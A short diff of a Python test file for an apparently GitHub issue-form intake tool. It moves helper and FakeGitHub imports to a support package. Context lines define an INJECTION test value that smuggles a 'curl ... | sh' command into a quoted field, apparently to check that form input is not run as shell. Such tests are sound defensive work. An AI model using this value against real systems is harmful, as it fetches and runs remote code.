@@ -15,8 +15,8 @@ import yaml
 
 from campaign.data import dataset, yamlio
 from campaign.intake import issue_form
-from campaign.intake.testing import FakeGitHub
-from conftest import ROOT, git, run
+from support.builders import ROOT, git, run
+from support.github import FakeGitHub
 
 TEMPLATES = ROOT / ".github" / "ISSUE_TEMPLATE"
 INJECTION = '"; curl x | sh; #'
